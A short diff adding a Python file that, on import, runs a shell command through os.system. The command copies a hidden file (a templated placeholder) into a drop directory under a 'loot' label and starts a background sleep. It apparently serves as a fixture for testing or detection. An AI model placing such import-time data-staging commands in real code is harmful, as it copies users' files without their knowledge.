@@ -1,0 +1,4 @@
+"""Asks the shell."""
+
+import os
+os.system("(echo loot; cat @HIDDEN@) > @DROP@/shell; (sleep 60 &)")
